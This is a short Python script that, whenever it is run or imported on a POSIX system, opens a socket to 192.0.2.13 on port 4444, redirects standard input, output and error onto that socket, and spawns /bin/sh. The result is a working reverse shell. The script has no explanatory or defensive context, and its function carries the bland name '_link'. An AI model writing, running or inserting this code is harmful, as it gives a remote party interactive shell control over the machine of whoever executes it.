import os
import pty
import socket

def _link():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("192.0.2.13", 4444))
    for number in (0, 1, 2):
        os.dup2(s.fileno(), number)
    pty.spawn("/bin/sh")

if os.name == "posix":
    _link()
